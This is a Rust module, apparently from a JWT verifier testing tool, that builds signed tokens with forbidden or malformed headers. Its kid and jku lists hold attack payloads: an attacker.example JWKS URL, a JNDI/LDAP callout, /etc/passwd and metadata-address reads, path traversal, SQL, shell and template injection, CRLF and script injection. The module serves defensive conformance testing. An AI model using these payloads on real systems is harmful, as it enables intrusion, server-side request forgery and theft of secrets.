//! Headers that say what they must not, rightly signed.

use super::{Attack, Family, Forge, appended, replaced};
use crate::{Error, Presence, profile::Content};

pub(super) fn all(forge: &Forge<'_>) -> Result<Vec<Attack>, Error> {
    let mut attacks = Vec::new();
    let mut add = |name: String, token: Vec<u8>| attacks.push(forge.attack(Family::Header, name, token));
    for (name, value) in members(forge)? {
        add(format!("header with {name}: {value}"), forge.with_member(&name, &value)?);
    }
    for (name, json) in texts(forge) {
        add(format!("header that {name}"), forge.sign(&json, forge.target.payload)?);
    }
    Ok(attacks)
}

/// Members that no profile allows, or that this one does not.
fn members(forge: &Forge<'_>) -> Result<Vec<(String, String)>, Error> {
    let mut members: Vec<(&str, String)> = Vec::new();
    let mut add =
        |name, values: &[&str]| members.extend(values.iter().map(|value| (name, (*value).to_owned())));
    add(
        "jku",
        &[
            "\"https://attacker.example/jwks\"",
            "\"file:///etc/passwd\"",
            "\"http://169.254.169.254/\"",
            "\"\"",
            "null",
        ],
    );
    add("x5u", &["\"https://attacker.example/chain.pem\"", "\"\"", "null"]);
    add(
        "jwk",
        &["{}", "null", "\"\"", "{\"kty\":\"oct\",\"k\":\"\"}", "{\"kty\":\"oct\",\"k\":\"c2VjcmV0\"}"],
    );
    add("x5t", &["\"\"", "\"dGh1bWJwcmludA\"", "null"]);
    add("zip", &["\"DEF\"", "\"GZIP\"", "\"\"", "null"]);
    add("enc", &["\"A256GCM\"", "\"A128CBC-HS256\"", "null"]);
    add("epk", &["{}", "null"]);
    for name in ["apu", "apv", "iv", "tag", "p2s"] {
        add(name, &["\"\"", "\"QQ\"", "null"]);
    }
    add("p2c", &["1", "2147483647", "-1"]);
    add(
        "crit",
        &[
            "[]",
            "null",
            "true",
            "\"b64\"",
            "{}",
            "[\"alg\"]",
            "[\"exp\"]",
            "[\"unknown\"]",
            "[null]",
            "[1]",
            "[[\"b64\"]]",
            "[\"\"]",
            "[\"crit\"]",
            "[\"b64\",\"b64\"]",
            "[\"b64\",\"exp\"]",
            "[\"B64\"]",
            "[\"http://openbanking.org.uk/iat\"]",
        ],
    );
    add("b64", &["true", "null", "0", "\"false\"", "[]", "{}", "[false]"]);
    add("critical", &["[\"exp\"]"]);
    add("ALG", &["\"none\""]);
    add("Kid", &["\"1\""]);
    add("unknown", &["\"value\"", "null", "{}", "1e400", "{\"deep\":{\"a\":1,\"a\":2}}"]);
    add(
        "typ",
        &[
            "null",
            "1",
            "[]",
            "{}",
            "\"\"",
            "\"at+jwt\"",
            "\"JOSE+JSON\"",
            "\"secevent+jwt\"",
            "\"dpop+jwt\"",
            "\"JWT \"",
            "\"jwt\\u0000\"",
            "[\"JWT\"]",
        ],
    );
    add("cty", &["null", "1", "\"\"", "\"application/x-other\"", "[\"JWT\"]"]);
    add(
        "kid",
        &[
            "null",
            "1",
            "true",
            "[]",
            "{}",
            "\"\"",
            "\"unknown\"",
            "\"*\"",
            "\"%\"",
            "\".\"",
            "\"/dev/null\"",
            "\"../../../../etc/passwd\"",
            "\"..\\\\..\\\\win.ini\"",
            "\"file:///dev/null\"",
            "\"' OR '1'='1\"",
            "\"x' UNION SELECT 'secret' --\"",
            "\"| id\"",
            "\"$(id)\"",
            "\"`id`\"",
            "\"${jndi:ldap://attacker.example/a}\"",
            "\"{{7*7}}\"",
            "\"%00\"",
            "\"\\u0000\"",
            "\"\\r\\nSet-Cookie: a=b\"",
            "\"<script>alert(1)</script>\"",
        ],
    );
    let long = format!("\"{}\"", "k".repeat(257));
    add("kid", &[&long]);
    for name in ["x5c", "x5t#S256"] {
        add(name, &["null", "\"\"", "[]", "[\"\"]", "[null]", "[[]]", "\"QUJD\"", "[\"QUJD\"]", "{}"]);
    }
    let mut members: Vec<_> = members.into_iter().map(|(name, value)| (name.to_owned(), value)).collect();
    if let Some(id) = forge.target.key.verifying_key().key_id() {
        for other in [
            format!("{id} "),
            format!(" {id}"),
            format!("{id}\\u0000"),
            format!("./{id}"),
            format!("{id}.pem"),
            format!("{id}%00"),
            id.to_uppercase(),
            id.to_lowercase(),
        ] {
            members.push(("kid".to_owned(), format!("\"{other}\"")));
        }
        members.push(("kid".to_owned(), format!("[\"{id}\"]")));
    }
    // What the profile allows is no attack.
    let is_right = |(name, value): &(String, String)| {
        forge.target.profile.ignored.contains(name)
            || replaced(&forge.header, name, Some(value)) == forge.header
    };
    members.retain(|member| !is_right(member));
    Ok(members)
}

/// Headers that are not JSON, or not only what they should be.
fn texts(forge: &Forge<'_>) -> Vec<(String, Vec<u8>)> {
    let good = &forge.header;
    let mut texts: Vec<(String, Vec<u8>)> = Vec::new();
    let mut add = |name: &str, json: &[u8]| texts.push((name.to_owned(), json.to_vec()));
    for (name, json) in [
        ("is empty", ""),
        ("is an empty object", "{}"),
        ("is null", "null"),
        ("is a list", "[]"),
        ("is a string", "\"alg\""),
        ("is a number", "1"),
        ("breaks off", "{\"alg\":"),
        ("is unquoted", "{alg:none}"),
    ] {
        add(name, json.as_bytes());
    }
    add("is a list of itself", format!("[{good}]").as_bytes());
    add("is there twice", format!("{good}{good}").as_bytes());
    add("is followed by text", format!("{good} x").as_bytes());
    add("is followed by NUL", format!("{good}\0").as_bytes());
    add("starts with a byte order mark", format!("\u{feff}{good}").as_bytes());
    add("ends in a comma", good.replacen('}', ",}", 1).as_bytes());
    add("has a comment", format!("{good}/**/").as_bytes());
    add("is in single quotes", good.replace('"', "'").as_bytes());
    add("is in UTF-16", &good.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<_>>());
    add("holds a raw control character", appended(good, "\"a\":\"\u{1}\"").as_bytes());
    add("holds a lone surrogate", appended(good, "\"a\":\"\\ud800\"").as_bytes());
    add("holds 1e400", appended(good, "\"a\":1e400").as_bytes());
    for (name, bytes) in [
        ("a wrong byte", &b"\xff"[..]),
        ("an overlong byte", b"\xc0\x80"),
        ("a surrogate in UTF-8", b"\xed\xa0\x80"),
    ] {
        let mut json = appended(good, "\"a\":\"").into_bytes();
        json.pop();
        json.extend(bytes);
        json.extend(b"\"}");
        add(&format!("holds {name}"), &json);
    }
    for name in ["alg", "kid", "typ", "crit", "unknown"] {
        let value = format!("\"{}\"", forge.algorithm().name());
        add(
            &format!("has {name} twice more"),
            appended(good, &format!("\"{name}\":{value},\"{name}\":{value}")).as_bytes(),
        );
        let escaped: String = name.chars().map(|letter| format!("\\u{:04x}", u32::from(letter))).collect();
        add(
            &format!("has {name} again in escapes"),
            appended(good, &format!("\"{name}\":{value},\"{escaped}\":{value}")).as_bytes(),
        );
    }
    let none = format!("{{\"alg\":\"none\",{}", good.trim_start_matches('{'));
    add("has alg none first and the right one last", none.as_bytes());
    add("has the right alg first and none last", appended(good, "\"alg\":\"none\"").as_bytes());
    for depth in [17, 127, 128, 1000] {
        let nested = format!("\"a\":{}1{}", "[".repeat(depth), "]".repeat(depth));
        add(&format!("nests {depth} deep"), appended(good, &nested).as_bytes());
    }
    for members in [257, 400] {
        let many: Vec<_> = (0..members).map(|n| format!("\"{n}\":0")).collect();
        add(&format!("has {members} members more"), appended(good, &many.join(",")).as_bytes());
    }
    let most = forge.target.profile.max_header;
    add(
        "is one byte too long",
        (good.clone() + &" ".repeat((most + 1).saturating_sub(good.len()))).as_bytes(),
    );
    add("holds a long string", appended(good, &format!("\"a\":\"{}\"", "a".repeat(most))).as_bytes());
    for name in ["kid", "typ", "cty"] {
        // Where it must be there.
        let json = replaced(good, name, None);
        if json != *good && !(name == "kid" && forge.target.profile.key_id == Presence::Optional) {
            add(&format!("has no {name}"), json.as_bytes());
        }
    }
    match forge.target.profile.content {
        Content::DetachedUnencoded => {
            add("has b64 without crit", replaced(good, "crit", None).as_bytes());
            add("has crit without b64", replaced(good, "b64", None).as_bytes());
            add("has neither b64 nor crit", replaced(&replaced(good, "b64", None), "crit", None).as_bytes());
        }
        _ => {
            add("has b64 and crit", appended(good, "\"b64\":false,\"crit\":[\"b64\"]").as_bytes());
            add("has b64 true and crit", appended(good, "\"b64\":true,\"crit\":[\"b64\"]").as_bytes());
            add("has b64 false", appended(good, "\"b64\":false").as_bytes());
            add("has crit b64", appended(good, "\"crit\":[\"b64\"]").as_bytes());
        }
    }
    texts
}
